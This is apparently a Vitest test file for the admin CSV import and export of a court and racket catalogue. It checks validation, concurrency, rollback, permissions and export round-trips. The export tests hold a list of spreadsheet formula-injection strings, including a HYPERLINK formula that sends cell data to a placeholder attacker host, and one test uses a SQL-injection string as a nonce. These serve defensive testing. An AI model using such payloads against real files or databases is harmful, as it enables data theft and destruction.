import { within } from "@testing-library/dom";
import { parse } from "csv-parse/sync";
import { beforeEach, describe, expect, test, vi } from "vitest";
import { SessionRepository } from "~/features/auth/session.repository.server";
import { CourtRepository } from "~/features/courts/court.repository.server";
import { type Fields, type SignedIn, startApp, type Visitor } from "../../support/app";
import { addEquipment } from "../../support/catalogue";
import { formBehind, press } from "../../support/form";
import { uploadOf } from "../../support/images";
import { type ReadPage, readPage } from "../../support/page";
import { chance } from "../../support/random";
import { deleteAccount, endSessions } from "../api/api";

const PATH = "/admin/import";

let app: Awaited<ReturnType<typeof startApp>>;
let admin: SignedIn;
beforeEach(async () => {
  app = await startApp();
  admin = await app.signedIn({ isSuperAdmin: true, firstName: "Meera" });
});

const addCourt = (more = {}) =>
  app.repositories().courts.add({ name: "Smash Club", location: "Powai", ...more });

/** A court of hostile texts. @param next returns a random whole number below its argument */
const hostileCourt = (next: (below: number) => number, text: () => string) => ({
  name: `${text()}.`,
  location: `${text()}.`,
  description: text(),
  priceRange: text().slice(0, 20).toWellFormed(),
  contactInfo: next(3) ? text() : null,
  membershipInfo: text(),
  membershipRequired: next(3) === 0,
  numberOfCourts: 1 + next(20),
  amenities: Array.from({ length: next(4) }, text),
  imageUrl: next(3) ? "https://images.example/a,b;c.jpg" : null,
});

/** A racket or ball of hostile texts. */
const hostileEquipment = (next: (below: number) => number, text: () => string) => ({
  name: `${text()}.`,
  type: next(3) ? "racket" : "ball",
  brand: next(3) ? text() : null,
  price: next(3) ? next(10_000_000) : null,
  description: text(),
  specifications: {
    [`${text().replace(/\s/g, "")}a`]: text(),
    weight: next(400),
    Light: next(3) === 0,
    nothing: null,
  },
});

/** Every row that an import can change. */
const rowsOf = () =>
  app.entities().execute(
    `select (select jsonb_agg(c order by id) from courts c) as courts,
      (select jsonb_agg(e order by id) from equipment e) as equipment,
      (select jsonb_agg(a order by id) from audit_entries a) as audit,
      (select jsonb_agg(i order by at) from sheet_imports i) as imports`,
  );

async function check(text: string, kind = "courts", status = 200): Promise<ReadPage> {
  const before = await rowsOf();
  const response = await admin.post(PATH, { kind, text });
  expect(response.status).toBe(status);
  expect(await rowsOf()).toEqual(before);
  return readPage(response);
}

const rows = (page: ReadPage) =>
  within(page.getByRole("table"))
    .getAllByRole("row")
    .slice(1)
    .map(({ textContent }) => textContent);

const textOf = (page: ReadPage) => {
  const area = page.getByRole("textbox", { name: "Rows" });
  return "value" in area ? area.value : null;
};

/** Checks the rows, then imports them. */
async function importRows(text: string, kind = "courts") {
  const page = await check(text, kind);
  const response = await press(
    admin,
    page,
    page.getByRole("button", { name: /^Import \d+ rows?$/ }).textContent,
  );
  expect(response.status).toBe(303);
  return readPage(await admin.get(response.headers.get("Location") ?? ""));
}

describe("checking a sheet", () => {
  test("lists what would be added and changed, and writes nothing", async () => {
    const { id } = await addCourt({ priceRange: "₹500", amenities: ["Parking"], numberOfCourts: 3 });
    const same = await addCourt({ name: "Same", location: "Dadar" });
    const page = await check(
      `id,name,location,priceRange,amenities\n,New Club,Worli,₹900,"Showers, Café, showers"\n${id},Smash Club,Powai,₹700,\n${same.id},Same,Dadar,,\n`,
    );
    page.getByRole("heading", { level: 2, name: "1 court to add, 1 to change" });
    page.getByText("Nothing is saved yet.");
    const [added, changed, ...others] = rows(page);
    expect(others).toEqual([]);
    for (const part of [
      "2",
      "New",
      "New Club",
      "LocationWorli",
      "Price range₹900",
      "AmenitiesShowers, Café",
    ]) {
      expect(added).toContain(part);
    }
    for (const part of ["3", "Changed", "removed: ₹500", "added: ₹700", "removed: Parking", `court ${id}`]) {
      expect(changed).toContain(part);
    }
    expect(changed).not.toContain("Number of courts");
    page.getByText("1 row is up to date: line 4.");
    page.getByRole("button", { name: "Import 2 rows" });
  });

  test("lists errors by row and column, in the wording of the forms, and preserves the text", async () => {
    const { id } = await addCourt();
    const text = `id,name,location,numberOfCourts,imageUrl,membershipRequired,amenities\n,Good Club,Powai,2,,no,\n,,Powai,0x4,ftp://x,maybe,${"a".repeat(61)}\n99,X,Y,1,,,\nabc,X,Y,1,,,\n${id},Two,Powai,1,,,\n${id},Three,Powai,1,,,\n,Short\n`;
    const page = await check(text, "courts", 422);
    page.getByRole("heading", { level: 2, name: "5 rows have errors" });
    expect(
      within(page.getByRole("alert"))
        .getAllByRole("link")
        .map((link) => [link.getAttribute("href"), link.textContent]),
    ).toEqual([
      ["#line-3", "Line 3: Court name cannot be empty"],
      ["#line-3", "Line 3: Number of courts must be a whole number from 1 to 20"],
      ["#line-3", "Line 3: Membership required must be true or false"],
      ["#line-3", "Line 3: Please provide a valid image URL or upload an image"],
      ["#line-3", "Line 3: An amenity can be at most 60 characters long"],
      ["#line-4", 'Line 4: There is no court "99". Leave the id empty to add one'],
      ["#line-5", 'Line 5: There is no court "abc". Leave the id empty to add one'],
      ["#line-7", `Line 7: Line 6 is about the court ${id} already`],
      ["#line-8", "Line 8: This row has 2 cells, but there are 7 headings"],
    ]);
    expect(rows(page)[1]).toContain("Number of courts must be");
    expect(page.queryByRole("button", { name: /^Import/ })).toBeNull();
    expect(textOf(page)).toBe(text);
  });

  test("reads cells of several lines on one line, except descriptions", async () => {
    const { id } = await addCourt({ name: "Sea View" });
    const page = await check(
      `id,name,location,description\n,"New\n Club",Worli,"One.\nTwo."\n${id},"Sea\nView",Powai,\n`,
    );
    page.getByText("1 row is up to date: line 5.");
    await press(admin, page, "Import 1 row");
    const [added] = (await app.repositories().courts.all()).filter((court) => court.id !== id);
    expect(added).toMatchObject({ name: "New Club", description: "One.\nTwo." });
  });

  test("accepts an uploaded image of the same item only", async () => {
    const { id } = await addCourt();
    const address = await uploadOf(app.entities());
    await app.entities().execute("update courts set image_url = ?", [address]);
    const same = await check(`id,name,location,imageUrl\n${id},Renamed,Powai,${address}\n`);
    same.getByRole("button", { name: "Import 1 row" });
    const other = await uploadOf(app.entities(), admin.viewer.id);
    for (const shown of [other, ` ${app.origin}${other}`, `https://elsewhere.example${address}`]) {
      const text = `id,name,location,imageUrl\n,New Club,Worli,${shown}\n${id},Smash Club,Powai,${shown}\n`;
      const page = await check(text, "courts", 422);
      page.getByRole("heading", { level: 2, name: "2 rows have errors" });
      expect(
        rows(page).filter((row) => row?.includes("Upload an image in the form of the item")),
      ).toHaveLength(2);
    }
    await check(`name,location,imageUrl\nNew Club,Worli,https://elsewhere.example/uploads/club.webp\n`);
  });

  test("warns of items that already exist and of duplicate rows", async () => {
    const { id } = await addCourt();
    const other = await addCourt({ name: "Other", location: "Powai" });
    const page = await check(
      `id,name,location\n,SMASH  club,powai\n,New,Worli\n,new,Worli\n${other.id},Smash Club,Powai\n`,
    );
    const [first, second, third, fourth] = rows(page);
    expect(first).toContain(`There is a court of this name and location already: ${id}.`);
    expect(second).not.toContain("Warning");
    expect(third).toContain("Line 3 has the same name and location.");
    expect(fourth).toContain(`There is a court of this name and location already: ${id}.`);
    expect(fourth).toContain("Line 2 has the same name and location.");
    page.getByRole("button", { name: "Import 4 rows" });
  });

  test("lists the columns that are ignored", async () => {
    const page = await check("name;location;Colour;average rating\nA;B;blue;5\n");
    page.getByText('There is no column called "Colour": it is ignored.');
    page.getByText('There is no column called "average rating": it is ignored.');
  });

  test.each([
    ["kind", { kind: "clubs", text: "name\nA" }, "Choose what the rows are"],
    ["kind", { text: "name\nA" }, "Choose what the rows are"],
    ["text", { kind: "courts", text: " \n" }, "Choose a file, or paste the rows here"],
    ["text", { kind: "courts" }, "Choose a file, or paste the rows here"],
    [
      "text",
      { kind: "courts", text: 'name\n"A' },
      "A cell has an opening quotation mark without a closing one",
    ],
    ["text", { kind: "courts", text: "name,location\n" }, "There are no rows below the headings"],
    [
      "text",
      { kind: "equipment", text: "id,name,location,description\n1,A,B,C" },
      'These are columns of courts. Choose "Courts" above',
    ],
    [
      "text",
      { kind: "courts", text: "name,spec:weight\nA,365 g" },
      'These are columns of rackets and balls. Choose "Rackets and balls" above',
    ],
  ])("rejects the %s of %j", async (field, fields, message) => {
    const response = await admin.post(PATH, fields);
    expect(response.status).toBe(422);
    const page = await readPage(response);
    const link = within(page.getByRole("alert")).getByRole("link", { name: message });
    expect(link.getAttribute("href")).toBe(`#import-${field}`);
    if ("text" in fields) expect(textOf(page)).toBe(fields.text);
  });

  const sendFile = (content: BlobPart) => {
    const body = new FormData();
    body.set("kind", "courts");
    body.set("text", "");
    body.set("file", new File([content], "courts.csv"));
    const headers = { Origin: app.origin, Cookie: admin.cookies.header };
    return app.send(new Request(app.origin + PATH, { method: "POST", body, headers }));
  };

  test.each([
    ["in UTF-16", Buffer.from("\uFEFFname,location\n", "utf16le"), /^The file is written in UTF-16/],
    [
      "in Latin-1",
      Buffer.from("name,location\nCaf\u00e9,Powai", "latin1"),
      /^The file is not written in UTF-8/,
    ],
    ["that is a workbook", Buffer.from("PK\u0003\u0004"), /^This is a workbook/],
    ["that is too large", "a".repeat(1_048_577), /^The file can be at most 1 MB$/],
  ])("says only what is wrong with a file %s", async (_, content, message) => {
    const response = await sendFile(content);
    expect(response.status).toBe(422);
    const errors = within((await readPage(response)).getByRole("alert")).getAllByRole("link");
    expect(errors.map((link) => [link.getAttribute("href"), link.textContent])).toEqual([
      ["#import-file", expect.stringMatching(message)],
    ]);
  });

  describe("typed rows", () => {
    const TYPED = "name,location\nMine,Powai\n";
    const FILE = "name,location\nGlass House,Powai\n";
    const sendBoth = (fields: Fields) => {
      const single = Object.entries(fields).map(([name, values]) => [name, [values].flat()[0] ?? ""]);
      const file = new File([FILE], "courts.csv");
      return admin.postFiles(PATH, { ...Object.fromEntries(single), file });
    };
    const expectTyped = async (response: Response): Promise<ReadPage> => {
      expect(response.status).toBe(422);
      const page = await readPage(response);
      page.getByRole("link", { name: /^You chose a file and typed rows as well/ });
      expect(textOf(page)).toBe(TYPED);
      return page;
    };

    test("are not replaced by a file, also when it is chosen again", async () => {
      const page = await expectTyped(await sendBoth({ kind: "courts", text: TYPED }));
      await expectTyped(await sendBoth(formBehind(page, "Check").fields));
    });

    test("are not replaced by a file after another error or a check", async () => {
      for (const kind of ["", "courts"]) {
        const page = await readPage(await admin.post(PATH, { kind, text: TYPED }));
        const { fields } = formBehind(page, kind ? "Check again" : "Check");
        await expectTyped(await sendBoth({ ...fields, kind: "courts" }));
      }
    });

    test("of a file are replaced by another until they are edited", async () => {
      const first = await readPage(await sendFile(TYPED));
      const { fields } = formBehind(first, "Check again");
      const checked = await readPage(await admin.post(PATH, fields));
      const again = formBehind(checked, "Check again").fields;
      const second = await sendBoth(again);
      expect([second.status, textOf(await readPage(second))]).toEqual([200, FILE]);
      const edited = await sendBoth({ ...fields, text: `${TYPED}Wall,Dadar\n` });
      expect([edited.status, textOf(await readPage(edited))]).toEqual([422, `${TYPED}Wall,Dadar\n`]);
    });
  });

  test("returns an uploaded file as text", async () => {
    const response = await sendFile("\uFEFFname,location\r\nGlass House,Powai\r\n");
    expect(response.status).toBe(200);
    const page = await readPage(response);
    expect(textOf(page)).toBe("name,location\nGlass House,Powai\n");
    expect(page.getByRole("button", { name: "Import 1 row" }).getAttribute("form")).toBe("import");
  });
});

describe("importing a sheet", () => {
  const TEXT = "name,location,contactInfo\nGlass House,Worli,+91 22\nWall,Dadar,\n";

  test("writes all rows, confirms it and records each in the audit log", async () => {
    const { id } = await addCourt();
    const page = await importRows(`id,name,location\n${id},Renamed,Powai\n,Glass House,Worli\n,Wall,Dadar\n`);
    page.getByText(/2 courts added, 1 changed/);
    within(page.getByRole("status")).getByText("Import done");
    const all = await app.repositories().courts.all();
    expect(all.map(({ name }) => name)).toEqual(["Renamed", "Glass House", "Wall"]);
    const entries = await app
      .entities()
      .execute("select actor_id, action, subject_kind, subject_name from audit_entries order by id");
    const by = { actor_id: admin.viewer.id, subject_kind: "court" };
    expect(entries).toEqual([
      { ...by, action: "changed", subject_name: "Renamed" },
      { ...by, action: "added", subject_name: "Glass House" },
      { ...by, action: "added", subject_name: "Wall" },
    ]);
  });

  test("changes only fields that have a column, and clears empty ones", async () => {
    const { id } = await addCourt({
      description: "Windy.",
      priceRange: "₹500",
      amenities: ["Parking, free", "Café"],
      membershipRequired: true,
      numberOfCourts: 4,
    });
    await importRows(`id,price range,numberOfCourts\n${id},,\n`);
    expect(await app.repositories().courts.findById(id)).toMatchObject({
      name: "Smash Club",
      description: "Windy.",
      priceRange: null,
      numberOfCourts: 1,
      membershipRequired: true,
      amenities: ["Parking, free", "Café"],
      version: 2,
    });
  });

  test("is idempotent when the form is sent repeatedly", async () => {
    const page = await check(TEXT);
    const send = () => press(admin, page, "Import 2 rows");
    const responses = await Promise.all([send(), send(), send()]);
    responses.push(await send());
    const locations = new Set(responses.map(({ headers }) => headers.get("Location")));
    expect([responses.map(({ status }) => status), locations.size]).toEqual([[303, 303, 303, 303], 1]);
    expect(await app.repositories().courts.all()).toHaveLength(2);
  });

  test("of two concurrent imports of the same rows, rejects one with 409", async () => {
    const pages = [await check(TEXT), await check(TEXT)];
    const responses = await Promise.all(pages.map((page) => press(admin, page, "Import 2 rows")));
    expect(responses.map(({ status }) => status).sort()).toEqual([303, 409]);
    expect(await app.repositories().courts.all()).toHaveLength(2);
  });

  test("does not deadlock with a concurrent import of the rows in reverse order", async () => {
    const ids = [];
    for (let at = 0; at < 10; at++) ids.push((await addCourt({ name: `Club ${at}` })).id);
    const sheet = (order: number[], price: string) =>
      `id,price range\n${order.map((id) => `${id},${price}\n`).join("")}`;
    const pages = [await check(sheet(ids, "₹1")), await check(sheet(ids.toReversed(), "₹2"))];
    const responses = await Promise.all(pages.map((page) => press(admin, page, "Import 10 rows")));
    expect(responses.map(({ status }) => status).sort()).toEqual([303, 409]);
    const prices = new Set((await app.repositories().courts.all()).map(({ priceRange }) => priceRange));
    expect(prices.size).toBe(1);
  });

  test("only checks another text that is sent under the same nonce", async () => {
    const page = await check(TEXT);
    await press(admin, page, "Import 2 rows");
    const response = await press(admin, page, "Import 2 rows", { text: `${TEXT}Third,Parel,\n` });
    expect(response.status).toBe(409);
    const again = await readPage(response);
    expect(rows(again)).toHaveLength(3);
    expect(await app.repositories().courts.all()).toHaveLength(2);
  });

  test("rejects the whole sheet when a row has changed since the check, and marks the row", async () => {
    const { id, version } = await addCourt();
    const text = `id,name,location\n,Glass House,Worli\n${id},Mine,Powai\n`;
    const page = await check(text);
    await app.repositories().courts.change(id, version, { priceRange: "₹555" });
    const before = await rowsOf();
    const response = await press(admin, page, "Import 2 rows");
    expect(response.status).toBe(409);
    expect(await rowsOf()).toEqual(before);
    const again = await readPage(response);
    within(again.getByRole("alert")).getByText(/^Nothing was imported: some items have changed/);
    expect(rows(again).map((row) => row?.includes("Changed since the check"))).toEqual([false, true]);
    expect(textOf(again)).toBe(text);
    expect((await press(admin, again, "Import 2 rows")).status).toBe(303);
    expect(await app.repositories().courts.findById(id)).toMatchObject({ name: "Mine", priceRange: "₹555" });
  });

  test("says that nothing is left to do when another super admin has made the same changes", async () => {
    const { id, version } = await addCourt();
    const page = await check(`id,name\n${id},Mine\n`);
    await app.repositories().courts.change(id, version, { name: "Mine" });
    const response = await press(admin, page, "Import 1 row");
    expect(response.status).toBe(409);
    const again = await readPage(response);
    const alert = again.getByRole("alert").textContent;
    expect(alert).toContain("now all rows are up to date");
    expect(alert).not.toContain("import again");
    expect(again.queryByRole("button", { name: /^Import / })).toBeNull();
  });

  test("leaves membership information out of courts that are not for members", async () => {
    const text = "name,location,membershipRequired,membershipInfo\nGlass House,Worli,no,Ask at the desk\n";
    const page = await importRows(text);
    page.getByText(/1 court added/);
    const [court] = await app.repositories().courts.all();
    expect(court).toMatchObject({ membershipRequired: false, membershipInfo: null });
    const again = `id,membershipRequired,membershipInfo\n${court?.id},no,Ask at the desk\n`;
    (await check(again)).getByText("There is nothing to import: all rows are up to date.");
    const alone = (info: string) => `id,membershipInfo\n${court?.id},${info}\n`;
    (await check(alone("Ask"))).getByText("There is nothing to import: all rows are up to date.");
    await importRows(`id,membershipRequired\n${court?.id},yes\n`);
    await importRows(alone("Call"));
    expect(await app.repositories().courts.all()).toMatchObject([
      { membershipRequired: true, membershipInfo: "Call" },
    ]);
  });

  test("counts the rows without errors apart from those with", async () => {
    const page = await check("name,location\nGlass House,Worli\n,Powai\n", "courts", 422);
    page.getByText(
      "Nothing was saved. Correct the rows and check again. The other rows: 1 court to add, 0 to change.",
    );
  });

  test("rejects the whole sheet when a row changes during the import", async () => {
    const item = await addCourt();
    const page = await check(`id,name,location\n,Glass House,Worli\n${item.id},Mine,Powai\n`);
    const before = await rowsOf();
    const spy = vi.spyOn(CourtRepository.prototype, "change").mockResolvedValue({ outcome: "stale", item });
    const response = await press(admin, page, "Import 2 rows");
    spy.mockRestore();
    expect(response.status).toBe(409);
    expect(await rowsOf()).toEqual(before);
  });

  test("is rejected when the same rows were added, or the changed row deleted, since the check", async () => {
    const { id } = await addCourt();
    const first = await check(TEXT);
    const second = await check(TEXT);
    await press(admin, first, "Import 2 rows");
    expect((await press(admin, second, "Import 2 rows")).status).toBe(409);
    const change = await check(`id,name\n${id},Mine\n`);
    await app.repositories().courts.remove(id);
    const response = await press(admin, change, "Import 1 row");
    expect(response.status).toBe(422);
    expect(rows(await readPage(response))[0]).toContain(`There is no court "${id}"`);
  });

  test.each(["", "x", "00000000-0000-0000-0000-00000000000", "'; drop table courts; --", "\0"])(
    "only checks under an unknown nonce or version: %j",
    async (nonce) => {
      const page = await check(TEXT);
      const before = await rowsOf();
      for (const more of [{ nonce }, { seen: "x y" }, { seen: "" }]) {
        const { fields } = formBehind(page, "Import 2 rows");
        expect((await admin.post(PATH, { ...fields, ...more })).status).toBe(409);
      }
      expect(await rowsOf()).toEqual(before);
    },
  );

  test("rolls back after a failure half way, preserves the text and can be repeated", async () => {
    const page = await check(TEXT);
    const before = await rowsOf();
    const add = CourtRepository.prototype.add;
    let calls = 0;
    const spy = vi.spyOn(CourtRepository.prototype, "add").mockImplementation(function (
      this: CourtRepository,
      fields,
    ) {
      calls += 1;
      if (calls === 2) throw new Error("Unexpected failure.");
      return add.call(this, fields);
    });
    const response = await press(admin, page, "Import 2 rows");
    spy.mockRestore();
    expect(response.status).toBe(500);
    expect(await rowsOf()).toEqual(before);
    expect(textOf(await readPage(response))).toBe(TEXT);
    expect((await press(admin, page, "Import 2 rows")).status).toBe(303);
  });

  test("preserves the text while the database is unavailable", async () => {
    const long = `name,location\n${"Glass House,Worli\n".repeat(400)}${"x".repeat(900_000)}`;
    const unavailable = Object.assign(new Error("Unavailable."), { code: "ECONNREFUSED" });
    const spy = vi.spyOn(CourtRepository.prototype, "all").mockRejectedValue(unavailable);
    const responses = await Promise.all([
      admin.post(PATH, { kind: "courts", text: long }),
      admin.post(`${PATH}.data`, { kind: "courts", text: TEXT }),
    ]);
    spy.mockRestore();
    expect(responses.map(({ status }) => status)).toEqual([503, 503]);
    const [preserved] = responses;
    if (preserved) expect(formBehind(await readPage(preserved), "Send again").fields.text).toEqual([long]);
  });

  test("preserves at most a usual form's text while the sender's session cannot be read", async () => {
    const unavailable = Object.assign(new Error("Unavailable."), { code: "ECONNREFUSED" });
    const spy = vi.spyOn(SessionRepository.prototype, "find").mockRejectedValue(unavailable);
    const text = "x".repeat(200_000);
    const preserved = await admin.post(PATH, { kind: "courts", text });
    const tooLong = await admin.post(PATH, { kind: "courts", text: "x".repeat(900_000) });
    spy.mockRestore();
    expect([preserved.status, tooLong.status]).toEqual([503, 503]);
    expect(formBehind(await readPage(preserved), "Send again").fields.text).toEqual([text]);
    (await readPage(tooLong)).getByText(/To get back what you typed, go back/);
  });

  test("imports 500 rows", async () => {
    const text = `name,location\n${Array.from({ length: 500 }, (_, at) => `Club ${at},Powai\n`).join("")}`;
    const page = await importRows(text);
    page.getByText(/500 courts added, 0 changed/);
    expect(await app.repositories().courts.all()).toHaveLength(500);
  });
});

describe("a sheet of rackets and balls", () => {
  const PRICE = /^Line 2: Price must be a whole number of rupees/;

  test("has specifications as JSON or in columns of their own", async () => {
    await importRows(
      `name,type,price,specifications,spec:weight,Spec: Head size\nVertex,Racket,14999,"{""shape"": ""round"", ""weight"": 1}",365,\nSpeed,ball,,,,large\n`,
      "equipment",
    );
    expect(await app.repositories().equipment.all()).toMatchObject([
      { name: "Vertex", type: "racket", price: 14_999, specifications: { shape: "round", weight: 365 } },
      { name: "Speed", type: "ball", price: null, specifications: { "Head size": "large" } },
    ]);
  });

  test("preserves specifications without a column, and unchanged numbers", async () => {
    const id = await addEquipment(app.entities(), {
      specifications: { weight: 365, shape: "round", Core: "EVA" },
    });
    const page = await check(`id,spec:Weight\n${id},365\n`, "equipment");
    page.getByText("There is nothing to import: all rows are up to date.");
    await importRows(`id,spec:Weight,spec:core,spec:face\n${id},365,,carbon\n`, "equipment");
    const [item] = await app.repositories().equipment.all();
    expect(item?.specifications).toEqual({ weight: 365, shape: "round", face: "carbon" });
  });

  test("keep the type of a number and of a boolean when they change", async () => {
    const id = await addEquipment(app.entities(), { specifications: { weight: 365, foam: true, grip: 4 } });
    await importRows(`id,spec:weight,spec:foam,spec:grip\n${id},370.5,no,about 4\n`, "equipment");
    const [item] = await app.repositories().equipment.all();
    expect(item?.specifications).toEqual({ weight: 370.5, foam: false, grip: "about 4" });
  });

  test.each([
    ["14999", 14_999],
    ["12,499", 12_499],
    ["₹12,499", 12_499],
    ["₹ 12,499", 12_499],
    ["₹\u00a012,499.00", 12_499],
    ["Rs. 12,499", 12_499],
    ["rs12,499/-", 12_499],
    ["INR 1,00,000", 100_000],
    ["100,000 INR", 100_000],
    [" ₹ ", PRICE],
    ["", null],
    ["₹12,499.50", PRICE],
    ["12.499", PRICE],
    ["12,49", PRICE],
    ["1,2,499", PRICE],
    ["1,2345", PRICE],
    ["12 499", PRICE],
    ["$12,499", PRICE],
    ["₹-5", PRICE],
    ["₹12,499-15,000", PRICE],
    ["0x10", PRICE],
  ])("accepts the usual notations of prices, and rejects others: %j", async (price, expected) => {
    const text = `name,type,price\nVertex,racket,"${price}"\n`;
    if (expected === PRICE) {
      const page = await check(text, "equipment", 422);
      within(page.getByRole("alert")).getByText(PRICE);
    } else {
      await importRows(text, "equipment");
      expect(await app.repositories().equipment.all()).toMatchObject([{ price: expected }]);
    }
  });

  test.each([
    ["type", "name,type\nA,shoe\n", "Equipment type must be racket or ball"],
    ["price", "name,type,price\nA,ball,1e3\n", /^Line 2: Price must be a whole number of rupees/],
    ["no JSON", "name,type,specifications\nA,ball,round\n", /Specifications must be a JSON object/],
    ["nested", 'name,type,specifications\nA,ball,"{""a"":[1]}"\n', /must be text, a plain number/],
    ["forbidden", "name,type,spec:__proto__\nA,ball,x\n", /cannot be called "__proto__"/],
    ["twice", "name,type,spec:head size,spec:headSize\nA,ball,x,y\n", /appears twice/],
    ["deep", `name,type,specifications\nA,ball,"${"[".repeat(100_000)}"\n`, /must be a JSON object/],
  ])("is rejected with an invalid value (%s)", async (_, text, message) => {
    const page = await check(text, "equipment", 422);
    within(page.getByRole("alert")).getByText(message, { exact: false });
  });

  test("is accepted with a warning for an item of the same name and brand", async () => {
    const id = await addEquipment(app.entities(), { brand: "Head" });
    const page = await check("name,type,brand\nvertex,racket,HEAD\nVertex,racket,Other\n", "equipment");
    expect(rows(page).map((row) => row?.includes(`of this name and brand already: ${id}.`))).toEqual([
      true,
      false,
    ]);
  });
});

describe("an export", () => {
  const file = async (name: string) => {
    const response = await admin.get(`/admin/export/${name}.csv`);
    expect([response.status, app.logged]).toEqual([200, []]);
    return response;
  };
  const read = async (response: Response) =>
    new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());

  test("has a file for each kind, and a template with the headings only", async () => {
    await addCourt({ contactInfo: "+91 22", amenities: ["Café", "Pool"] });
    const response = await file("courts");
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("Cache-Control")).toBe("private, no-store");
    expect(response.headers.get("Content-Disposition")).toMatch(
      /^attachment; filename="bandeja-courts-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const heads =
      '"id","name","location","description","priceRange","contactInfo","numberOfCourts","membershipRequired","membershipInfo","imageUrl","amenities"';
    expect(await read(response)).toBe(
      `\uFEFF${heads}\r\n"1","Smash Club","Powai",,,"'+91 22","1","false",,,"Café, Pool"\r\n`,
    );
    expect(await read(await file("courts-template"))).toBe(`\uFEFF${heads}\r\n`);
    expect(await read(await file("equipment-template"))).toBe(
      '\uFEFF"id","name","type","brand","price","description","imageUrl","specifications"\r\n',
    );
  });

  test.each(["clubs.csv", "courts", "courts.csv.csv", "__proto__.csv", "courts-.csv"])(
    "responds 404 to an unknown file name: %s",
    async (name) => {
      expect((await admin.get(`/admin/export/${name}`)).status).toBe(404);
    },
  );

  const HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "+91 22",
    "-5",
    "@SUM(1)",
    "'=1",
    "''+",
    "'",
    '"',
    '""',
    'a"b',
    ",",
    ";",
    "\t;",
    "a,b;c\td",
    "two\nlines",
    '"\n"',
    "[a, b]",
    '["x"]',
    "{}",
    "null",
    "\u202Eabc",
    "🎾",
    "é,ü",
    "<b>&amp;</b>",
    "true",
    "0",
    "1e3",
    "id",
    "sep=;",
    "\\",
    "\\n",
    "x\u2028y",
  ];

  test("that is imported again changes nothing, whatever the texts contain", async () => {
    const next = chance(7);
    const text = () =>
      Array.from({ length: 1 + next(3) }, () => HOSTILE[next(HOSTILE.length)] ?? "").join(next(3) ? "" : " ");
    for (let at = 0; at < 60; at++) {
      expect((await admin.json("POST", "/api/courts", hostileCourt(next, text))).status).toBe(201);
      expect((await admin.json("POST", "/api/equipment", hostileEquipment(next, text))).status).toBe(201);
    }
    for (const kind of ["courts", "equipment"]) {
      const sheet = await read(await file(kind));
      const cells = parse(sheet, { bom: true }).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      for (const form of [sheet, sheet.replaceAll("\r\n", "\n")]) {
        const page = await check(form, kind);
        page.getByText(/^60 rows are up to date: lines 2–/);
        expect(page.queryByRole("button", { name: /^Import/ })).toBeNull();
      }
    }
  });

  test("that is imported into an empty catalogue restores it", async () => {
    await addCourt({ name: "'=Club", contactInfo: "@here", amenities: ["a,b", "=c"] });
    const { id: _, version: __, createdAt: ___, updatedAt: ____, ...before } = await addCourt({ name: "B" });
    const sheet = (await read(await file("courts"))).replace(/^"\d+"/gm, '""');
    const { courts } = app.repositories();
    for (const { id } of await courts.all()) await courts.remove(id);
    await importRows(sheet);
    const [first, second] = await app.repositories().courts.all();
    expect(first).toMatchObject({ name: "'=Club", contactInfo: "@here", amenities: ["a,b", "=c"] });
    expect(second).toMatchObject(before);
  });
});

describe("permission to import and export", () => {
  const TEXT = "name,location\nGlass House,Worli\n";

  /** Users without permission, with the statuses of a page, of its .data address and of a file. */
  const SIGN_IN = "/api/login?returnTo=%2Fadmin%2Fimport";
  const others: [string, () => Promise<Visitor>, [number, number], string][] = [
    ["visitor", async () => app.visitor(), [302, 401], SIGN_IN],
    ["player", () => app.signedIn(), [403, 403], PATH],
    [
      "super admin whose account is deleted",
      async () => {
        const person = await app.signedIn({ isSuperAdmin: true });
        await deleteAccount(app, person);
        return person;
      },
      [302, 401],
      SIGN_IN,
    ],
    [
      "super admin whose session has expired",
      async () => {
        const person = await app.signedIn({ isSuperAdmin: true });
        await endSessions(app, person);
        return person;
      },
      [302, 401],
      SIGN_IN,
    ],
    [
      "super admin whose rights were taken",
      async () => {
        const person = await app.signedIn({ isSuperAdmin: true, email: "former@example.com" });
        await app.repositories().roles.revoke(person.viewer.id, admin.viewer.id);
        await app.signedIn({ email: "former@example.com" }, person.cookies);
        return person;
      },
      [403, 403],
      PATH,
    ],
  ];

  test.each(others)("is denied to a %s", async (_, signIn, [page, data], toFile) => {
    const { fields } = formBehind(await check(TEXT), "Import 1 row");
    const person = await signIn();
    const before = await rowsOf();
    for (const sent of [{ kind: "courts", text: TEXT }, fields]) {
      expect.soft((await person.post(PATH, sent)).status).toBe(page);
      expect.soft((await person.post(`${PATH}.data`, sent)).status).toBe(data);
    }
    for (const name of ["courts.csv", "equipment.csv", "courts-template.csv"]) {
      const response = await person.get(`/admin/export/${name}`);
      // A browser would show the problem of a file as text.
      expect.soft([response.status, response.headers.get("Location")]).toEqual([302, toFile]);
      expect.soft(await response.text()).not.toContain("location");
    }
    expect(await rowsOf()).toEqual(before);
  });

  test("a submission after the session has ended is preserved over the sign-in", async () => {
    const visitor = app.visitor();
    const response = await visitor.post(PATH, { kind: "courts", text: TEXT });
    expect(response.headers.get("Location")).toBe("/api/login?returnTo=%2Fadmin%2Fimport");
    const again = await app.signedIn({ isSuperAdmin: true }, visitor.cookies);
    expect(textOf(await readPage(await again.get(PATH)))).toBe(TEXT);
  });

  test("a submission too long to be stored over the sign-in is offered to be sent again", async () => {
    const text = `name,location\n${"Glass House,Worli\n".repeat(10_000)}`;
    const response = await app.visitor().post(PATH, { kind: "courts", text });
    expect(response.status).toBe(401);
    const page = await readPage(response);
    expect(formBehind(page, "Send again").fields.text).toEqual([text]);
  });

  test("a visitor's submission larger than any other form's limit responds 413", async () => {
    const text = "x".repeat(300_000);
    expect((await app.visitor().post(PATH, { kind: "courts", text })).status).toBe(413);
  });
});
